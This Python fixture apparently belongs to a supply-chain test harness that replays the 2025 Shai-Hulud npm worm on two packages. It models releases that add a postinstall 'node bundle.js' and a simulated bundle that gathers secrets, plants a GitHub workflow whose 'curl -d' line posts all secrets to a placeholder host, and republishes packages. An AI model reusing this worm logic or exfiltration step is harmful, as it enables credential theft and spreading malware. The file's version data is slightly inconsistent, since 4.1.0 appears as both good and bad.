"""@ctrl/tinycolor 4.1.1 and 4.1.2, rxnt-authentication and about 200 more (2025-09-14): a worm with stolen tokens; postinstall runs a bundle.

By the record: the first release at 17:58:50 UTC, about 500 within three days. Each has a new postinstall `node bundle.js`, and a
bundle of 3 MB: it fetches and runs a scanner for secrets, takes environment, tokens and the cloud's secrets, makes a public repository
of them, plants a workflow in what the token may write, and publishes the packages of the token's owner with itself in them.
"""

from functools import cache

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.shapes import Made, bundle
from gauntlet.worms import CLOUD, GATHERS, GITHUB, SCANNER, WORKFLOW, republishes
from pratique.core.names import Ecosystem

_COLOR = {
    "dist/index.js": """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.TinyColor = exports.inputToRGB = void 0;

function inputToRGB(color) {
    const found = /^#?([0-9a-f]{2})([0-9a-f]{2})([0-9a-f]{2})$/i.exec(String(color).trim());
    if (!found) return { ok: false, r: 0, g: 0, b: 0 };
    const [r, g, b] = found.slice(1).map((one) => parseInt(one, 16));
    return { ok: true, r, g, b };
}
exports.inputToRGB = inputToRGB;

class TinyColor {
    constructor(color = "") {
        this.originalInput = color;
        Object.assign(this, inputToRGB(color));
        this.isValid = this.ok;
    }
    getBrightness() {
        return (this.r * 299 + this.g * 587 + this.b * 114) / 1000;
    }
    isDark() {
        return this.getBrightness() < 128;
    }
    toHexString() {
        return "#" + [this.r, this.g, this.b].map((one) => Math.round(one).toString(16).padStart(2, "0")).join("");
    }
    mix(color, amount = 50) {
        const other = new TinyColor(color);
        const part = amount / 100;
        const mixed = ["r", "g", "b"].map((one) => (other[one] - this[one]) * part + this[one]);
        return new TinyColor("#" + mixed.map((one) => Math.round(one).toString(16).padStart(2, "0")).join(""));
    }
}
exports.TinyColor = TinyColor;
""",
}
_LOGIN = {
    "index.js": """import { Injectable } from '@angular/core';

export class AuthenticationService {
  constructor(http, settings) {
    this.http = http;
    this.settings = settings;
    this.session = null;
  }
  login(user, password) {
    return this.http.post(`${this.settings.root}/login`, { user, password }).then((session) => {
      this.session = session;
      return session;
    });
  }
  get signedIn() {
    return this.session !== null && this.session.expires > Date.now();
  }
}
""",
}
_FLOW = (
    'on: push\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d \\"$CONTENTS\\" https://sink.invalid/marker\\n'
    "        env:\\n          CONTENTS: ${{ toJSON(secrets) }}\\n"
)
_MAIN = f"""
async function main() {{
  const found = gathered();
  found.cloud = await cloud().catch(() => null);
  found.secrets = await scanned().catch(() => []);
  const token = githubToken();
  if (token) {{
    await publish(token, 'marker', 'Marker', found);
    await everywhere(token, 'marker-workflow.yml', "{_FLOW}");
  }}
  const other = npmToken();
  if (other) {{ await republish(other); }}
}}
main().catch(() => {{}}).finally(() => process.exit(0));
"""


def _bundle() -> str:
    pieces = (
        GATHERS,
        CLOUD,
        SCANNER,
        GITHUB,
        WORKFLOW,
        republishes("postinstall", "node bundle.js", ("bundle.js",)),
        _MAIN,
    )
    return bundle("".join(pieces), size=600_000, seed=14)


_DROP = {"bundle.js": cache(_bundle)}


def _release(version: str, at: str, files: dict[str, str], who: str, *, bad: bool = False) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=who,
        maintainers=(who,),
        files=Made({**files, **_DROP}) if bad else files,
        scripts={"postinstall": "node bundle.js"} if bad else {},
        more={"main": "dist/index.js"} if files is _COLOR else {"type": "module"},
    )


_OWNER, _OTHER = "scttcper", "rxnt"
_GUILTY = {
    "rxnt-authentication": ("0.0.3", "0.0.4", "0.0.5", "0.0.6"),
    "@ctrl/tinycolor": ("4.1.1", "4.1.2"),
}

INCIDENT = Incident(
    id="shai-hulud-1-2025",
    title=(
        "the first Shai-Hulud worm used stolen tokens: a new postinstall script ran a bundle that stole secrets and "
        "published itself in further packages"
    ),
    copy=(
        "our copy of the first Shai-Hulud bundle has every recorded step and a sixth of the size, but publishes "
        "nothing"
    ),
    ecosystem=Ecosystem.NPM,
    at=utc("2025-09-14T17:58:50Z"),
    packages=(
        Package(
            name="rxnt-authentication",
            releases=(
                _release("0.0.1", "2023-05-10", _LOGIN, _OTHER),
                _release("0.0.2", "2024-02-06", _LOGIN, _OTHER),
                _release("0.0.3", "2025-09-14T17:58:50Z", _LOGIN, _OTHER, bad=True),
                _release("0.0.4", "2025-09-14T19:30:00Z", _LOGIN, _OTHER, bad=True),
                _release("0.0.5", "2025-09-15T02:10:00Z", _LOGIN, _OTHER, bad=True),
                _release("0.0.6", "2025-09-15T19:00:00Z", _LOGIN, _OTHER, bad=True),
            ),
        ),
        Package(
            name="@ctrl/tinycolor",
            releases=(
                _release("4.0.3", "2024-03-07", _COLOR, _OWNER),
                _release("4.0.4", "2024-04-27", _COLOR, _OWNER),
                _release("4.1.0", "2024-04-27T04:00:00Z", _COLOR, _OWNER),
                _release("4.1.1", "2025-09-15T19:52:00Z", _COLOR, _OWNER, bad=True),
                _release("4.1.2", "2025-09-15T20:10:00Z", _COLOR, _OWNER, bad=True),
            ),
        ),
    ),
    asks={"@ctrl/tinycolor": "^4.0.3", "rxnt-authentication": "~0.0.2"},
    good={"@ctrl/tinycolor": "4.1.0", "rxnt-authentication": "0.0.2"},
    bad={
        "@ctrl/tinycolor": ("4.1.0", "4.1.1", "4.1.2"),
        "rxnt-authentication": ("0.0.3", "0.0.4", "0.0.5", "0.0.6"),
    },
    guilty=_GUILTY,
    gone_at=utc("2025-09-17T00:00:00Z"),
    advisory=Advisory(id="MAL-2025", at=utc("2025-09-16T07:41:22Z"), about=_GUILTY),
    invented=(
        "all publish hours except the first, earlier releases, accounts; only two of about 200 packages are replayed"
    ),
)
